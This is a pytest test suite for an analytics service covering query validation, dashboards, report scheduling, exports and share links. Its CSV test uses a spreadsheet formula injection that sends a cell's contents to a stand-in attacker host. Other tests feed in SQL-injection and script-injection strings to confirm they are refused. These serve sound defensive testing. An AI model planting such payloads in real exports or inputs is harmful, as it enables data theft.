import csv
import datetime as dt
import json
import signal
import subprocess
import sys
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest

from within_db.errors import ConflictError, PermissionDeniedError, ValidationError
from within_db.models.analytics import (
    Dashboard,
    DashboardWidget,
    Report,
    ReportExport,
    SavedQuery,
    ScheduledReport,
    ShareLink,
)
from within_db.models.campaigns import AdMetric, CampaignPerformance, SpendRecord
from within_db.models.ml_system import ModelMetric, PredictionLog
from within_db.models.users import User
from within_db.services import analytics as svc
from within_db.services.analytics import reports as reports_module
from within_db.services.analytics.compiler import catalogue, execute_definition, validate_definition
from within_db.services.users import create_role, grant_role, token_digest

from .helpers import make_ad, make_campaign, make_model, make_report, make_user, make_version

UTC = dt.UTC
D = dt.date


@pytest.fixture
def data(db):
    """Two campaigns on two platforms over three days (a Sunday, Monday, and 1 Feb)."""
    owner = make_user()
    meta = make_campaign(owner=owner, platform="meta", start_date=D(2026, 1, 1))
    google = make_campaign(owner=owner, platform="google", start_date=D(2026, 1, 1))
    figures = [  # campaign, date, impressions, clicks, conversions, spend, revenue
        (meta, D(2026, 1, 25), 1000, 50, 5, "10.50", "40"),
        (meta, D(2026, 1, 26), 2000, 40, 0, "8.25", "0"),
        (google, D(2026, 1, 26), 0, 0, 0, "0", "0"),
        (google, D(2026, 2, 1), 500, 10, 2, "3.000001", "9"),
    ]
    for c, day, imp, clk, conv, spend, rev in figures:
        CampaignPerformance.create(campaign=c, date=day, impressions=imp, clicks=clk,
                                   conversions=conv, spend_micros=Decimal(spend),
                                   revenue_micros=Decimal(rev))
        SpendRecord.create(campaign=c, amount_micros=Decimal(spend),
                           occurred_at=dt.datetime.combine(day, dt.time(23, 30), UTC))
    ad = make_ad(meta, creative_type="video")
    AdMetric.create(ad=ad, date=D(2026, 1, 25), impressions=10, clicks=0, conversions=0)
    version = make_version(make_model(name="ctr"))
    for i, score in enumerate([0.2, 0.4, 0.9]):
        PredictionLog.create(model_version=version, request_id=f"r{i}", score=score,
                             created_at=dt.datetime(2026, 1, 25, 23, 59, tzinfo=UTC)
                             + dt.timedelta(minutes=i))
    ModelMetric.create(model_version=version, name="auc", value=0.8, split="test")
    ModelMetric.create(model_version=version, name="auc", value=0.6, split="test")
    return {"owner": owner, "meta": meta, "google": google, "ad": ad, "version": version}


def test_totals_and_derived_metrics(data):
    rows = execute_definition({"dataset": "campaign_performance", "metrics": [
        "impressions", "clicks", "conversions", "spend", "revenue", "ctr", "cvr", "cpa", "roas"]})
    assert rows == [{"impressions": 3500, "clicks": 100, "conversions": 7,
                     "spend": Decimal("21.750001"), "revenue": Decimal("49"),
                     "ctr": round(100 / 3500, 9), "cvr": 0.07,
                     "cpa": round(21.750001 / 7, 9), "roas": round(49 / 21.750001, 9)}]


def test_grouping_by_day_week_month_platform_and_campaign(data):
    def run(dims, metrics=("clicks",), **kw):
        return execute_definition({"dataset": "campaign_performance", "dimensions": list(dims),
                                   "metrics": list(metrics), **kw})

    assert run(["date"]) == [{"date": D(2026, 1, 25), "clicks": 50},
                             {"date": D(2026, 1, 26), "clicks": 40},
                             {"date": D(2026, 2, 1), "clicks": 10}]
    # ISO weeks start on Monday: 25 Jan 2026 is a Sunday, 1 Feb too
    assert run(["date:week"]) == [{"date:week": D(2026, 1, 19), "clicks": 50},
                                  {"date:week": D(2026, 1, 26), "clicks": 50}]
    assert run(["date:month"]) == [{"date:month": D(2026, 1, 1), "clicks": 90},
                                   {"date:month": D(2026, 2, 1), "clicks": 10}]
    assert run(["platform"], ["clicks", "ctr"], sort=[{"by": "clicks", "desc": True}]) == [
        {"platform": "meta", "clicks": 90, "ctr": 0.03},
        {"platform": "google", "clicks": 10, "ctr": 0.02}]
    by_campaign = run(["campaign"], ["spend"])
    assert {r["campaign"]: r["spend"] for r in by_campaign} == {
        data["meta"].id: Decimal("18.75"), data["google"].id: Decimal("3.000001")}


def test_divide_by_zero_gives_null(data):
    rows = execute_definition({
        "dataset": "campaign_performance", "dimensions": ["date", "platform"],
        "metrics": ["ctr", "cvr", "cpa", "roas"],
        "filters": [{"dimension": "platform", "op": "eq", "value": "google"},
                    {"dimension": "date", "op": "eq", "value": "2026-01-26"}]})
    assert rows == [{"date": D(2026, 1, 26), "platform": "google", "ctr": None, "cvr": None,
                     "cpa": None, "roas": None}]


def test_filters_and_params(data):
    definition = {"dataset": "campaign_performance", "metrics": ["clicks"],
                  "filters": [{"dimension": "date", "op": "between",
                               "value": [{"param": "from"}, {"param": "to"}]},
                              {"dimension": "platform", "op": "in",
                               "value": ["meta", "google"]}]}
    rows = execute_definition(definition, {"from": "2026-01-26", "to": "2026-02-01"})
    assert rows == [{"clicks": 50}]
    with pytest.raises(ValidationError, match='missing query parameter "from"'):
        execute_definition(definition)
    gte = execute_definition({"dataset": "campaign_performance", "metrics": ["clicks"],
                              "filters": [{"dimension": "date", "op": "gte",
                                           "value": "2026-01-26"}]})
    assert gte == [{"clicks": 50}]


def test_spend_dataset_on_instants(data):
    rows = execute_definition({"dataset": "spend", "dimensions": ["date"],
                               "metrics": ["spend", "records"],
                               "filters": [{"dimension": "date", "op": "lte",
                                            "value": "2026-01-26"}]})
    assert rows == [{"date": D(2026, 1, 25), "spend": Decimal("10.5"), "records": 1},
                    {"date": D(2026, 1, 26), "spend": Decimal("8.25"), "records": 2}]


def test_ad_prediction_and_model_metric_datasets(data):
    assert execute_definition({"dataset": "ad_metrics", "dimensions": ["creative_type"],
                               "metrics": ["impressions", "ctr"]}) == [
        {"creative_type": "video", "impressions": 10, "ctr": 0.0}]
    assert execute_definition({"dataset": "prediction_logs", "dimensions": ["date", "model"],
                               "metrics": ["prediction_count", "mean_score"]}) == [
        {"date": D(2026, 1, 25), "model": "ctr", "prediction_count": 1, "mean_score": 0.2},
        {"date": D(2026, 1, 26), "model": "ctr", "prediction_count": 2, "mean_score": 0.65}]
    assert execute_definition({"dataset": "model_metrics", "dimensions": ["metric", "split"],
                               "metrics": ["mean_value", "max_value", "count"]}) == [
        {"metric": "auc", "split": "test", "mean_value": 0.7, "max_value": 0.8, "count": 2}]


def test_every_dimension_and_metric_runs(data):
    for dataset, valid in catalogue().items():
        for dim in [None, *valid["dimensions"]]:
            rows = execute_definition({"dataset": dataset, "dimensions": [dim] if dim else [],
                                       "metrics": valid["metrics"]})
            assert isinstance(rows, list)
            for row in rows:
                json.dumps({k: str(v) for k, v in row.items()})


@pytest.mark.parametrize("definition,message", [
    ({"dataset": "users", "metrics": ["clicks"]}, "unknown dataset"),
    ({"dataset": "spend", "metrics": ["clicks"]}, 'unknown metric "clicks"'),
    ({"dataset": "spend", "metrics": []}, "at least one metric"),
    ({"dataset": "spend", "dimensions": ["email"], "metrics": ["spend"]}, "unknown dimension"),
    ({"dataset": "spend", "dimensions": ["date:year"], "metrics": ["spend"]}, "date:month"),
    ({"dataset": "spend", "dimensions": ["date", "date:week"], "metrics": ["spend"]},
     "one date dimension"),
    ({"dataset": "spend", "metrics": ["spend"],
      "filters": [{"dimension": "platform", "op": "like", "value": "x"}]}, "unknown operator"),
    ({"dataset": "spend", "metrics": ["spend"],
      "filters": [{"dimension": "owner", "op": "eq", "value": "x"}]}, "cannot filter"),
    ({"dataset": "spend", "metrics": ["spend"], "sort": [{"by": "clicks"}]}, "sort entries"),
    ({"dataset": "spend", "metrics": ["spend"], "limit": 0}, "limit"),
    ({"dataset": "spend", "metrics": ["spend"], "sql": "DROP TABLE users"}, "unknown definition"),
    ("SELECT 1", "JSON object"),
])
def test_invalid_definitions_are_refused(definition, message):
    with pytest.raises(ValidationError, match=message):
        validate_definition(definition)


def test_saved_query_owner_and_permission_checks(data):
    owner = data["owner"]
    query = svc.create_saved_query(owner, "clicks", {"dataset": "campaign_performance",
                                                     "metrics": ["clicks"]})
    with pytest.raises(ConflictError):
        svc.create_saved_query(owner, "clicks", {"dataset": "spend", "metrics": ["spend"]})
    assert svc.run_saved_query(query, actor=owner) == [{"clicks": 100}]
    stranger = make_user()
    with pytest.raises(PermissionDeniedError, match="analytics.run_any"):
        svc.run_saved_query(query, actor=stranger)
    create_role("analyst", ["analytics.run_any"])
    grant_role(stranger, "analyst")
    assert svc.run_saved_query(query, actor=stranger) == [{"clicks": 100}]


def test_visualization_rules(data):
    q_date = svc.create_saved_query(data["owner"], "d", {
        "dataset": "campaign_performance", "dimensions": ["date"], "metrics": ["clicks"]})
    q_plat = svc.create_saved_query(data["owner"], "p", {
        "dataset": "campaign_performance", "dimensions": ["platform"], "metrics": ["clicks"]})
    assert svc.create_visualization(q_date, "trend", "line", {"title": "Clicks"}).id
    with pytest.raises(ValidationError, match="needs a date dimension"):
        svc.create_visualization(q_plat, "trend", "line")
    with pytest.raises(ValidationError, match="unknown chart type"):
        svc.create_visualization(q_plat, "x", "radar")
    with pytest.raises(ValidationError, match="unknown chart options"):
        svc.create_visualization(q_plat, "x", "bar", {"onclick": "alert(1)"})
    with pytest.raises(ValidationError, match="takes no dimensions"):
        svc.create_visualization(q_plat, "x", "kpi")
    assert svc.create_visualization(q_plat, "share", "pie").chart_type == "pie"


def test_dashboard_widgets_do_not_overlap(data):
    owner = data["owner"]
    query = svc.create_saved_query(owner, "p", {
        "dataset": "campaign_performance", "dimensions": ["platform"], "metrics": ["clicks"]})
    viz = svc.create_visualization(query, "bars", "bar")
    board = svc.create_dashboard(owner, "Main")
    with pytest.raises(ConflictError):
        svc.create_dashboard(owner, "Main")
    w1 = svc.add_widget(board, viz, 0, 0, 6, 4)
    w2 = svc.add_widget(board, viz, 6, 0, 6, 4)
    with pytest.raises(ConflictError, match="overlap"):
        svc.add_widget(board, viz, 3, 2, 4, 4)
    with pytest.raises(ValidationError, match="12-column grid"):
        svc.add_widget(board, viz, 10, 0, 4, 2)
    with pytest.raises(ConflictError):
        svc.move_widget(w2, 4, 0)
    svc.move_widget(w2, 0, 4, width=12)
    assert (DashboardWidget.get_by_id(w2.id).y, DashboardWidget.get_by_id(w2.id).width) == (4, 12)
    svc.remove_widget(w1)
    svc.add_widget(board, viz, 0, 0, 12, 4)
    viz.delete_instance()
    assert DashboardWidget.select().count() == 0


BERLIN = ZoneInfo("Europe/Berlin")


@pytest.mark.parametrize("before,expected_local", [
    # spring forward: 29 March 2026, 02:00 -> 03:00
    (dt.datetime(2026, 3, 28, 10, 0, tzinfo=BERLIN), dt.datetime(2026, 3, 29, 9, 0)),
    # fall back: 25 October 2026, 03:00 -> 02:00
    (dt.datetime(2026, 10, 24, 10, 0, tzinfo=BERLIN), dt.datetime(2026, 10, 25, 9, 0)),
])
def test_daily_9am_berlin_across_dst(db, before, expected_local):
    report = make_report()
    schedule = svc.create_schedule(report, "0 9 * * *", "Europe/Berlin", now=before)
    stored = ScheduledReport.get_by_id(schedule.id).next_run_at
    assert stored.tzinfo == UTC
    assert stored.astimezone(BERLIN).replace(tzinfo=None) == expected_local
    offset_before = before.utcoffset()
    assert stored.astimezone(BERLIN).utcoffset() != offset_before  # the offset did change
    svc.mark_ran(schedule, stored)
    nxt = ScheduledReport.get_by_id(schedule.id).next_run_at
    assert nxt - stored == dt.timedelta(days=1)
    assert nxt.astimezone(BERLIN).hour == 9


def test_due_schedules_and_validation(db):
    report = make_report()
    now = dt.datetime(2026, 6, 1, 12, tzinfo=UTC)
    hourly = svc.create_schedule(report, "0 * * * *", "UTC", now=now)
    svc.create_schedule(report, "0 0 1 1 *", "UTC", now=now)
    paused = svc.create_schedule(report, "0 * * * *", "UTC", now=now, is_active=False)
    due = svc.due_schedules(now + dt.timedelta(hours=1))
    assert [s.id for s in due] == [hourly.id]
    assert paused.id not in [s.id for s in due]
    with pytest.raises(ValidationError, match="invalid cron"):
        svc.create_schedule(report, "61 * * * *", "UTC")
    with pytest.raises(ValidationError, match="unknown timezone"):
        svc.create_schedule(report, "0 9 * * *", "Mars/Olympus")
    with pytest.raises(ValidationError, match="naive"):
        svc.next_run("0 9 * * *", "UTC", dt.datetime(2026, 1, 1))


def test_exports_write_rows_or_fail_without_a_file(data, tmp_path):
    owner = data["owner"]
    query = svc.create_saved_query(owner, "by platform", {
        "dataset": "campaign_performance", "dimensions": ["platform"],
        "metrics": ["clicks", "spend"]})
    report = make_report(owner=owner, saved_query=query)
    export = svc.export_report(report, "csv", tmp_path)
    assert export.status == "succeeded" and export.row_count == 2
    lines = (tmp_path / export.location.split("/")[-1]).read_text().splitlines()
    assert lines == ["platform,clicks,spend", "google,10,3.000001", "meta,90,18.75"]
    jsonl = svc.export_report(report, "jsonl", tmp_path)
    first = json.loads(open(jsonl.location).readline())
    assert first == {"platform": "google", "clicks": 10, "spend": "3.000001"}
    broken = make_report(owner=owner, saved_query=None)
    (tmp_path / "out").mkdir()
    failed = svc.export_report(broken, "csv", tmp_path / "out")
    assert failed.status == "failed" and "no saved query" in failed.error
    assert failed.error.startswith("ValidationError: ")
    assert failed.location is None and not any((tmp_path / "out").iterdir())
    denied = svc.export_report(report, "csv", tmp_path / "out", requested_by=make_user())
    assert denied.status == "failed" and denied.error.startswith("PermissionDeniedError")
    assert not any((tmp_path / "out").iterdir())
    assert ReportExport.select().count() == 4
    assert sorted(p.suffix for p in tmp_path.iterdir() if p.is_file()) == [".csv", ".jsonl"]
    with pytest.raises(ValidationError):
        svc.export_report(report, "xlsx", tmp_path)


def test_share_links_expire_and_revoke(data):
    owner = data["owner"]
    board = svc.create_dashboard(owner, "Shared")
    now = dt.datetime(2026, 6, 1, tzinfo=UTC)
    raw, link = svc.create_share_link(board, "view", dt.timedelta(hours=1), owner, now=now)
    assert raw.startswith("wdbl_") and link.token_hash != raw and raw not in str(link.to_dict())
    resource, permission = svc.resolve_share_link(raw, now=now + dt.timedelta(minutes=59))
    assert resource.id == board.id and permission == "view"
    assert svc.resolve_share_link(raw, now=now + dt.timedelta(hours=1)) is None
    assert svc.resolve_share_link(raw[:-1] + "x", now=now) is None
    raw2, _ = svc.create_share_link(board, "edit", dt.timedelta(days=1), owner)
    assert svc.revoke_share_link(raw2) is True
    assert svc.revoke_share_link(raw2) is False
    assert svc.resolve_share_link(raw2) is None
    with pytest.raises(ValidationError):
        svc.create_share_link(owner, "view", dt.timedelta(days=1), owner)
    with pytest.raises(ValidationError):
        svc.create_share_link(board, "admin", dt.timedelta(days=1), owner)


# -- definitions that were stored but crashed every later run --------------------------------


def _days(n):
    return [(D(2020, 1, 1) + dt.timedelta(days=i)).isoformat() for i in range(n)]


SPEND = {"dataset": "spend", "metrics": ["spend"]}


@pytest.mark.parametrize("definition,message", [
    ({**SPEND, "filters": [{"dimension": "date", "op": "in", "value": _days(5000)}]},
     "at most 1000 values"),
    ({**SPEND, "filters": [{"dimension": "platform", "op": "eq"}]}, "value: Field required"),
    ({**SPEND, "filters": None}, "filters: Input should be a valid list"),
    ({**SPEND, "sort": None}, "sort: Input should be a valid list"),
    ({**SPEND, "filters": [{"dimension": "campaign", "op": "eq", "value": "not-a-uuid"}]},
     "expected a UUID or canonical UUID text"),
    ({**SPEND, "filters": [{"dimension": "date", "op": "gte", "value": "26/01/2026"}]},
     "expected a date or YYYY-MM-DD text"),
    ({"dataset": "prediction_logs", "metrics": ["prediction_count"],
      "filters": [{"dimension": "version", "op": "eq", "value": "1"}]}, "expected an int"),
    ({**SPEND, "filters": [{"dimension": "platform", "op": "eq", "value": ["a", "b"]}]},
     "takes one value"),
    ({**SPEND, "filters": [{"dimension": "platform", "op": "in", "value": [[["x"]]]}]},
     "a filter value is text"),
    ({**SPEND, "filters": [{"dimension": "platform", "op": "eq",
                            "value": {"param": "x; DROP"}}]}, "parameter name"),
    ({**SPEND, "limit": True}, "limit: Input should be a valid integer"),
    ({**SPEND, "metrics": "spend"}, "metrics: Input should be a valid list"),
])
def test_definitions_that_would_crash_later_are_refused_when_saved(db, definition, message):
    owner = make_user()
    with pytest.raises(ValidationError, match=message):
        svc.create_saved_query(owner, "q", definition)
    assert SavedQuery.select().count() == 0


def test_a_thousand_day_in_list_runs_on_dates_and_on_instants(data):
    days = [*_days(998), "2026-01-25", "2026-01-26"]
    for dataset, metric, expected in [("campaign_performance", "clicks", 90),
                                      ("spend", "records", 3)]:
        rows = execute_definition({"dataset": dataset, "metrics": [metric], "filters": [
            {"dimension": "date", "op": "in", "value": days}]})
        assert rows == [{metric: expected}]


def test_params_are_typed_against_their_dimension_when_run(data):
    query = svc.create_saved_query(data["owner"], "by campaign", {
        "dataset": "campaign_performance", "metrics": ["clicks"], "filters": [
            {"dimension": "campaign", "op": "eq", "value": {"param": "campaign"}},
            {"dimension": "date", "op": "gte", "value": {"param": "since"}}]})
    since = "2026-01-01"
    assert svc.run_saved_query(query, {"campaign": str(data["meta"].id), "since": since}) == \
        [{"clicks": 90}]
    assert svc.run_saved_query(query, {"campaign": data["meta"].id, "since": D(2026, 1, 26)}) \
        == [{"clicks": 40}]
    for params, message in [({"campaign": "not-a-uuid", "since": since}, "expected a UUID"),
                            ({"campaign": [str(data["meta"].id)], "since": since},
                             "takes one value"),
                            ({"campaign": str(data["meta"].id), "since": 20260101},
                             "expected a date or YYYY-MM-DD text"),
                            ({"since": since}, 'missing query parameter "campaign"')]:
        with pytest.raises(ValidationError, match=message):
            svc.run_saved_query(query, params)


def test_a_stored_definition_that_no_longer_validates_names_the_saved_query(data):
    query = svc.create_saved_query(data["owner"], "legacy", {**SPEND})
    SavedQuery.update(definition={**SPEND, "filters": None}).where(
        SavedQuery.id == query.id).execute()
    stale = SavedQuery.get_by_id(query.id)
    with pytest.raises(ValidationError, match=f'saved query {query.id} \\("legacy"\\) no longer '
                                              "validates: filters"):
        svc.run_saved_query(stale)
    with pytest.raises(ValidationError, match="no longer validates"):
        svc.create_visualization(stale, "chart", "table")


# -- exports ---------------------------------------------------------------------------------


def _report(owner, definition):
    return make_report(owner=owner, saved_query=svc.create_saved_query(owner, "q", definition))


def test_export_arguments_are_checked_before_a_row_is_written(data, tmp_path):
    report = _report(data["owner"], {**SPEND})
    for directory, message in [(None, "directory is required"), ("", "directory is empty"),
                               (tmp_path / "missing", "does not exist"),
                               (str(tmp_path / "file"), "does not exist")]:
        (tmp_path / "file").write_text("")
        with pytest.raises(ValidationError, match=message):
            svc.export_report(report, "csv", directory)
    assert ReportExport.select().count() == 0


def test_csv_cells_that_spreadsheets_run_as_formulas_are_neutralised(data, tmp_path):
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    for name in (evil, "+1", "-2", "@cmd", "\tx", "\rx", "plain"):
        ModelMetric.create(model_version=data["version"], name=name, value=1.0, split="test")
    report = _report(data["owner"], {"dataset": "model_metrics", "dimensions": ["metric"],
                                     "metrics": ["count"]})
    guarded = svc.export_report(report, "csv", tmp_path)
    with open(guarded.location, newline="", encoding="utf-8") as handle:
        cells = [row[0] for row in csv.reader(handle)][1:]
    assert sorted(cells) == sorted(["'" + evil, "'+1", "'-2", "'@cmd", "'\tx", "'\rx",
                                    "auc", "plain"])
    raw = svc.export_report(report, "csv", tmp_path, neutralise_formulas=False)
    with open(raw.location, newline="", encoding="utf-8") as handle:
        assert evil in [row[0] for row in csv.reader(handle)]


def test_negative_numbers_are_not_mangled_in_csv(data, tmp_path):
    ModelMetric.update(value=-0.5).execute()
    report = _report(data["owner"], {"dataset": "model_metrics", "metrics": ["mean_value"]})
    export = svc.export_report(report, "csv", tmp_path)
    assert open(export.location).read().splitlines() == ["mean_value", "-0.5"]


def test_an_interrupted_export_is_marked_failed_and_leaves_no_file(data, tmp_path,
                                                                    monkeypatch):
    report = _report(data["owner"], {**SPEND})

    def interrupted(rows, fmt, handle, guard):
        handle.write("half a row")
        raise KeyboardInterrupt

    monkeypatch.setattr(reports_module, "_write", interrupted)
    with pytest.raises(KeyboardInterrupt):
        svc.export_report(report, "csv", tmp_path)
    export = ReportExport.get()
    assert export.status == "failed" and export.error == "KeyboardInterrupt"
    assert export.location is None and list(tmp_path.iterdir()) == []


def test_stale_running_exports_are_reaped_with_their_partial_files(data, tmp_path):
    report = _report(data["owner"], {**SPEND})
    started = dt.datetime.now(UTC) - dt.timedelta(hours=2)
    stale = ReportExport.create(report=report, format="csv", status="running",
                                started_at=started, created_at=started,
                                location=str(tmp_path / "report-x.csv"))
    (tmp_path / "report-x.csv.partial").write_text("half")
    fresh = ReportExport.create(report=report, format="csv", status="running",
                                started_at=dt.datetime.now(UTC))
    export = svc.export_report(report, "csv", tmp_path)  # reaps first
    assert export.status == "succeeded"
    assert ReportExport.get_by_id(stale.id).status == "failed"
    assert ReportExport.get_by_id(stale.id).error.startswith("StaleExport")
    assert ReportExport.get_by_id(fresh.id).status == "running"
    assert not (tmp_path / "report-x.csv.partial").exists()
    assert svc.reap_stale_exports(dt.timedelta(seconds=1),
                                  now=dt.datetime.now(UTC) + dt.timedelta(minutes=1)) == 1
    assert ReportExport.get_by_id(fresh.id).status == "failed"


# -- share links -----------------------------------------------------------------------------


def test_share_links_die_with_their_creator_or_resource(data):
    owner, other = data["owner"], make_user()
    board = svc.create_dashboard(owner, "Shared")
    raw, _ = svc.create_share_link(board, "view", dt.timedelta(days=1), other)
    assert svc.resolve_share_link(raw)[0].id == board.id
    User.update(is_active=False).where(User.id == other.id).execute()
    assert svc.resolve_share_link(raw) is None
    raw2, _ = svc.create_share_link(board, "view", dt.timedelta(days=1), owner)
    Dashboard.delete().where(Dashboard.id == board.id).execute()
    assert svc.resolve_share_link(raw2) is None


def test_unsaved_resources_cannot_be_shared_and_legacy_rows_resolve_to_nothing(data):
    owner = data["owner"]
    with pytest.raises(ValidationError, match="unsaved Dashboard"):
        svc.create_share_link(Dashboard(owner=owner, name="draft"), "view",
                              dt.timedelta(days=1), owner)
    assert ShareLink.select().count() == 0
    raw = "wdbl_" + "x" * 43
    now = dt.datetime.now(UTC)
    ShareLink.create(resource_type="dashboard", resource_id="None", prefix=raw[:12],
                     token_hash=token_digest(raw), created_by=owner, created_at=now,
                     expires_at=now + dt.timedelta(days=1))
    assert svc.resolve_share_link(raw) is None


def test_an_export_killed_mid_write_is_reaped(migrated_fresh_db, fresh_url, tmp_path):
    # A real process, killed (SIGKILL) while writing: it leaves a running row and a partial
    # file, which the reaper (also run by every export) turns into a failed row and no file.
    code = (
        "import os, signal, sys, within_db\n"
        "from within_db.services import analytics as an, users\n"
        "from within_db.services.analytics import reports\n"
        "within_db.connect(sys.argv[1])\n"
        "owner = users.create_user('k@example.com', 'a sufficiently long passphrase')\n"
        "query = an.create_saved_query(owner, 'q', {'dataset': 'spend', 'metrics': ['spend']})\n"
        "report = an.create_report(owner, 'r', saved_query=query)\n"
        "def dying(rows, fmt, handle, guard):\n"
        "    handle.write('half a row')\n"
        "    handle.flush()\n"
        "    os.kill(os.getpid(), signal.SIGKILL)\n"
        "reports._write = dying\n"
        "an.export_report(report, 'csv', sys.argv[2])\n"
    )
    proc = subprocess.run([sys.executable, "-c", code, fresh_url, str(tmp_path)],
                          capture_output=True, text=True, timeout=120)
    assert proc.returncode == -signal.SIGKILL, proc.stderr
    [partial] = tmp_path.iterdir()
    assert partial.name.endswith(".csv.partial")
    with migrated_fresh_db.connection_context():
        export = ReportExport.get()
        assert export.status == "running"
        assert svc.reap_stale_exports() == 0  # not stale yet
        later = dt.datetime.now(UTC) + svc.STALE_EXPORT_AFTER + dt.timedelta(minutes=1)
        assert svc.reap_stale_exports(now=later) == 1
        export = ReportExport.get()
    assert export.status == "failed" and export.error.startswith("StaleExport")
    assert list(tmp_path.iterdir()) == []


def test_reports_and_widgets_over_another_users_query_need_run_any(data):
    owner, stranger = data["owner"], make_user()
    query = svc.create_saved_query(owner, "mine", {"dataset": "campaign_performance",
                                                   "metrics": ["clicks"]})
    viz = svc.create_visualization(query, "kpi", "kpi")
    board = svc.create_dashboard(stranger, "theirs")
    with pytest.raises(PermissionDeniedError, match="analytics.run_any"):
        svc.create_report(stranger, "borrowed", saved_query=query)
    with pytest.raises(PermissionDeniedError, match="analytics.run_any"):
        svc.add_widget(board, viz, 0, 0, 4, 4)
    assert not Report.select().where(Report.owner == stranger.id).exists()
    assert not DashboardWidget.select().where(DashboardWidget.dashboard == board.id).exists()
    assert svc.create_report(owner, "own", saved_query=query).saved_query_id == query.id
    create_role("analyst", ["analytics.run_any"])
    grant_role(stranger, "analyst")
    assert svc.create_report(stranger, "borrowed", saved_query=query).owner_id == stranger.id
    assert svc.add_widget(board, viz, 0, 0, 4, 4).dashboard_id == board.id
